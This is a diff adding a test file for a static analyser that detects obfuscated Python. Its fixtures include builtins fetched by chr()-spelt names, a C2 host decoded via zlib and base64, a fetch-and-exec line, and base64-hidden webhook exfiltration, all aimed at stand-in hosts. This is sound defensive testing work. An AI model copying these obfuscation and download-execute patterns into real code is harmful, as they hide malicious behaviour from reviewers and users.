@@ -1,0 +1,118 @@
+// Names and hosts a file hides by building them at run time, each on an inert imitation: builtins fetched from a
+// namespace by chr()-spelt names, names spelt from a character table, a host decoded by the file's own helper
+// that the file also calls elsewhere, and a module used without an import here.
+import assert from 'node:assert/strict';
+import { deflateSync } from 'node:zlib';
+import { before, test } from 'node:test';
+import { initAnalysis } from '../../src/analysis/api.ts';
+import { analyzePythonFile } from '../../src/analysis/python-file.ts';
+import type { Finding } from '../../src/model/result.ts';
+
+before(() => initAnalysis());
+
+function findings(source: string, path = 'demo/mod.py'): Finding[] {
+  return analyzePythonFile(path, new TextEncoder().encode(source))[0].findings;
+}
+const codes = (name: string) => `[${[...name].map((c) => c.charCodeAt(0)).join(', ')}]`;
+
+test('__import__ and getattr fetched from globals()["__builtins__"] by chr()-spelt names, through a bound "".join', () => {
+  const source = [
+    'g = globals',
+    '_ = "".join',
+    `imp = getattr(g()[_([chr(c) for c in ${codes('__builtins__')}])], _([chr(c) for c in ${codes('__import__')}]))`,
+    `ga = getattr(g()[_([chr(c) for c in ${codes('__builtins__')}])], _([chr(c) for c in ${codes('getattr')}]))`,
+    'def run(name):',
+    '    ga(imp(name), "start")()',
+    'run(OFFSETS)',
+  ].join('\n');
+  const hidden = findings(source).filter((f) => f.rule === 'obfuscated-builtin');
+  assert.deepEqual(
+    hidden.map((f) => [f.line, f.severity, /reaches (\w+)\(\)/.exec(f.message)?.[1]]),
+    [
+      [6, 'critical', 'getattr'],
+      [6, 'critical', '__import__'],
+    ],
+    'both hidden builtins are reported where they are called, critical since the call runs on import',
+  );
+});
+
+test('a builtin fetched by a name written out, or by a name from a variable, is not reported as hidden', () => {
+  const source = [
+    'import builtins',
+    'imp = getattr(builtins, "__import__")',
+    'imp("json")',
+    'for name in NAMES:',
+    '    getattr(builtins, name)("x")',
+  ].join('\n');
+  assert.equal(
+    findings(source).find((f) => f.rule === 'obfuscated-builtin'),
+    undefined,
+  );
+});
+
+test('__import__ given a module name spelt one character at a time from a table', () => {
+  const source = [
+    'class K:',
+    '    def __init__(self):',
+    '        self._t = TABLE',
+    '        self._m = __import__(self._t[1] + self._t[8] + self._t[13] + self._t[0])',
+    'K()',
+  ].join('\n');
+  const spelt = findings(source).find((f) => f.rule === 'spelt-from-table');
+  assert.equal(spelt?.severity, 'critical', 'the class is instantiated on import');
+  assert.equal(spelt?.line, 4);
+  const sum = findings('def area(p):\n    return max(p[0] + p[1] + p[2] + p[3], 0)\n');
+  assert.equal(
+    sum.find((f) => f.rule === 'spelt-from-table'),
+    undefined,
+    'a sum of items passed to an ordinary function is arithmetic',
+  );
+});
+
+test("a host decoded by a helper is found even when the helper is also given the server's answer", () => {
+  // what the helper undoes: zlib, then base64, then reversed
+  const encoded = [...deflateSync(Buffer.from('c2.example.invalid')).toString('base64')].reverse().join('');
+  const source = [
+    'from http.client import HTTPSConnection',
+    'from zlib import decompress',
+    'from base64 import b64decode',
+    'class C:',
+    '    def decd(self, data):',
+    '        b64d = lambda s: b64decode(s)',
+    '        return decompress(b64d(data[::-1])).decode()',
+    '    def fetch(self):',
+    `        hosts = [b"${encoded}", b"x"]`,
+    '        conn = HTTPSConnection(self.decd(hosts[0]), timeout=1)',
+    '        conn.request("GET", "/")',
+    '        answer = conn.getresponse().read().decode()',
+    '        return self.decd(answer).split(":")',
+  ].join('\n');
+  const call = findings(source).find((f) => f.rule === 'egress-network-call' && f.line === 10);
+  assert.equal(call?.destination?.host, 'c2.example.invalid');
+  assert.equal(call?.severity, 'high', 'a host the file never writes');
+});
+
+test('a module used without an import in this file (a star import, or a forgotten one) is still that module', () => {
+  const source = [
+    'import os',
+    'def fetch_and_run():',
+    '    code = urllib.request.urlopen("https://files.example/get/start.py").read()',
+    '    exec(code)',
+    'fetch_and_run()',
+  ].join('\n');
+  const run = findings(source).find((f) => f.rule === 'download-execute');
+  assert.equal(run?.severity, 'critical');
+});
+
+test('a name decoded in place (`hook = b64decode(hook)`) holds the decoded text where it is used next', () => {
+  const hook = Buffer.from('https://hooks.example.invalid/api/webhooks/1/x').toString('base64');
+  const source = [
+    'import base64, requests',
+    'def report(data):',
+    `    hook = "${hook}"`,
+    '    hook = base64.b64decode(hook.encode())',
+    '    requests.post(hook, json=data)',
+  ].join('\n');
+  const call = findings(source).find((f) => f.rule === 'egress-network-call');
+  assert.equal(call?.destination?.host, 'hooks.example.invalid');
+});
